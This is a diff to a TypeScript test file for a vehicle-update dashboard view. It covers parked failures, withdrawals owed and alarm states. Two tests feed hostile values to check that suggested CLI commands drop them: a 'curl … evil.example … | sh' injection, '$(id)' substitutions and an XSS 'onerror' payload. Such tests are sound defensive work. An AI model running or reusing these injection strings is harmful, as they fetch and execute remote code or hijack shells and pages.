@@ -1,9 +1,9 @@
 import { test } from "uvu";
 import * as assert from "uvu/assert";
-import { QUEUE_ROLE } from "../../../../contracts/dashboard-documents.js";
-import { alarmChanges, alarmsChangedSince, deadLetterCommand, expiryWarnings, shapeNeedsAHand } from "../../../../functions/dashboard-publisher/needs-a-hand-view.js";
+import { QUEUE_ROLE, withdrawalsCommand } from "../../../../contracts/dashboard-documents.js";
+import { alarmChanges, alarmsChangedSince, deadLetterCommand, expiryWarnings, owedWithdrawals, parkedCommand, shapeNeedsAHand } from "../../../../functions/dashboard-publisher/needs-a-hand-view.js";
 import { otaReportSchema } from "../../../../telemetry/schema.js";
-import { compositeAlarm, deadLetterMessage, metricAlarm, needsAHandInput } from "./support/factories.js";
+import { campaignSummary, compositeAlarm, deadLetterMessage, metricAlarm, needsAHandInput, parkedFailure } from "./support/factories.js";
 
 const now = new Date("2026-11-26T18:00:00.000Z");
 const minutesAgo = (minutes: number) => new Date(now.getTime() - minutes * 60_000);
@@ -15,8 +15,53 @@ test("lists parked failures newest first with their remedy and the fleetota comm
   assert.equal(doc.parked.items.map((item) => item.reason), ["invalid-update-message", "object-missing"]);
   assert.is(doc.parked.items[1]!.command, "fleetota parked --source telemetry-processor --reason object-missing");
   assert.match(doc.parked.items[1]!.remedy, /upload it again/);
-  assert.equal(doc.parked.byReason, [{ reason: "invalid-update-message", count: 1 }, { reason: "object-missing", count: 1 }]);
-  assert.equal([doc.parked.total, doc.parked.complete], [2, true]);
+  assert.equal(doc.parked.byReason.map((entry) => [entry.reason, entry.records, entry.messages]), [["invalid-update-message", 1, 1], ["object-missing", 1, 1]]);
+  assert.equal([doc.parked.total, doc.parked.complete, doc.parked.retentionDays], [2, true, 90]);
+});
+
+test("counts parked failures by source and reason: the messages a counted record stands for, the newest, when the oldest expires, the command", () => {
+  const at = (minutes: number) => minutesAgo(minutes).toISOString();
+  const failures = [
+    parkedFailure({ id: "a", source: "update-manager", reason: "other-vehicle", parkedAt: at(60), count: 40, lastParkedAt: at(3) }, now),
+    parkedFailure({ id: "b", source: "update-manager", reason: "other-vehicle", parkedAt: at(3 * 24 * 60), count: 7, lastParkedAt: at(2 * 24 * 60) }, now),
+    parkedFailure({ id: "c", source: "telemetry-processor", reason: "object-missing", parkedAt: at(10) }, now),
+    parkedFailure({ id: "d", source: "telemetry-processor", reason: "object-missing", parkedAt: at(20) }, now),
+    parkedFailure({ id: "e", source: "update-manager", reason: "image-targets-unverifiable", parkedAt: at(5), count: Number.NaN }, now),
+  ];
+
+  const doc = shapeNeedsAHand({ ...needsAHandInput(now, alarms), parked: { failures, complete: true }, parkedRetentionDays: 30 }, undefined, now);
+
+  assert.equal(
+    doc.parked.byReason.map((entry) => [entry.source, entry.reason, entry.records, entry.messages, entry.newestAt, entry.oldestAt, entry.command]),
+    [
+      ["update-manager", "other-vehicle", 2, 47, at(3), at(3 * 24 * 60), "fleetota parked --source update-manager --reason other-vehicle"],
+      ["telemetry-processor", "object-missing", 2, 2, at(10), at(20), "fleetota parked --source telemetry-processor --reason object-missing"],
+      ["update-manager", "image-targets-unverifiable", 1, 1, at(5), at(5), "fleetota parked --source update-manager --reason image-targets-unverifiable"],
+    ],
+  );
+  // S3 expires an object the given days after it was written, at the next midnight UTC.
+  assert.is(doc.parked.byReason[0]!.oldestExpiresAt, "2026-12-24T00:00:00.000Z");
+  assert.match(doc.parked.byReason[2]!.remedy, /fleetota release refresh/);
+  assert.is(doc.parked.retentionDays, 30);
+  assert.equal(doc.parked.items.find((item) => item.id === "a")!.count, 40);
+  assert.is(doc.parked.items.find((item) => item.id === "c")!.count, undefined);
+});
+
+test("counts from a listing that stopped at its page budget are 'at least' (complete false), however few were read", () => {
+  const doc = shapeNeedsAHand({ ...needsAHandInput(now, alarms), parked: { failures: [parkedFailure({}, now)], complete: false } }, undefined, now);
+
+  assert.equal([doc.parked.total, doc.parked.complete], [1, false]);
+});
+
+test("never offers a parked command with a source or reason that is not one of the known words (a record is read back from the bucket)", () => {
+  const hostile = ["x; curl -s https://evil.example/x | sh", "$(id)", "`id`", "object-missing --all", "--source", "a|sh", "<img src=x onerror=alert(1)>", "object\u202e-missing", "Object-Missing", "a".repeat(65), "-x", "x-", ""];
+  for (const reason of hostile) {
+    assert.is(parkedCommand({ source: "update-manager", reason }), "fleetota parked --source update-manager", reason);
+    assert.is(parkedCommand({ source: reason, reason: "object-missing" }), "fleetota parked --reason object-missing", reason);
+    const doc = shapeNeedsAHand({ ...needsAHandInput(now, alarms), parked: { failures: [parkedFailure({ reason }, now)] } }, undefined, now);
+    assert.equal([doc.parked.items[0]!.command, doc.parked.byReason[0]!.command], ["fleetota parked --source telemetry-processor", "fleetota parked --source telemetry-processor"], reason);
+  }
+  assert.is(parkedCommand({ source: "telemetry-processor", reason: "object-missing" }), "fleetota parked --source telemetry-processor --reason object-missing");
 });
 
 test("says why each dead letter is there and which command deals with it", () => {
@@ -49,6 +94,36 @@ test("never offers a command with a campaign id the shell would read as more (a 
   for (const campaignId of hostile) assert.equal(commands(campaignId), ["fleetota redrive"], campaignId);
   assert.equal(commands("c-20261126T140000-1a2b3c4d"), ["fleetota redrive --campaign c-20261126T140000-1a2b3c4d"]);
   assert.equal(commands("c-1"), ["fleetota redrive --campaign c-1"]);
+});
+
+test("lists the campaigns that owe withdrawals, most owed first, with the command and the withdrawals-failed alarm's state", () => {
+  const campaigns = [
+    campaignSummary({ campaignId: "c-running", withdrawalsOwed: 0 }),
+    campaignSummary({ campaignId: "c-canceled", name: "Brakes 2.5", state: "CANCELED", withdrawalsOwed: 2 }),
+    campaignSummary({ campaignId: "c-aborted", name: "Seats 1.2", state: "aborted", withdrawalsOwed: 9 }),
+    campaignSummary({ campaignId: "c-old-record" }),
+    campaignSummary({ campaignId: "c-drifted", withdrawalsOwed: -1 }),
+  ];
+  const withAlarm = { metricAlarms: [...alarms.metricAlarms, metricAlarm({ AlarmName: "fleetota-dev-withdrawals-failed", StateValue: "ALARM" })], compositeAlarms: [] };
+
+  const doc = shapeNeedsAHand({ ...needsAHandInput(now, withAlarm), campaigns }, undefined, now);
+
+  assert.equal(doc.withdrawals!.campaigns.map((entry) => [entry.campaignId, entry.name, entry.state, entry.owed, entry.command]), [
+    ["c-aborted", "Seats 1.2", "ABORTED", 9, "fleetota campaign show c-aborted"],
+    ["c-canceled", "Brakes 2.5", "CANCELED", 2, "fleetota campaign show c-canceled"],
+  ]);
+  assert.equal([doc.withdrawals!.total, doc.withdrawals!.omitted], [11, 0]);
+  assert.equal(doc.withdrawals!.alarm, { name: "fleetota-dev-withdrawals-failed", state: "ALARM" });
+  assert.is(owedWithdrawals([], alarms).alarm, null);
+  assert.is(shapeNeedsAHand(needsAHandInput(now, alarms), undefined, now).withdrawals, undefined, "campaigns not read: no part");
+});
+
+test("never offers a campaign command with an id the shell would read as more", () => {
+  for (const campaignId of ["c-1; curl -s https://evil.example/x | sh", "$(id)", "--all", "c-1\u202e", '<img src=x onerror="alert(1)">', ""]) {
+    assert.is(withdrawalsCommand(campaignId), "fleetota campaign list", campaignId);
+    const doc = shapeNeedsAHand({ ...needsAHandInput(now, alarms), campaigns: [campaignSummary({ campaignId, withdrawalsOwed: 1 })] }, undefined, now);
+    assert.is(doc.withdrawals!.campaigns[0]!.command, "fleetota campaign list", campaignId);
+  }
 });
 
 test("keeps every part it could read and names the one it could not", () => {
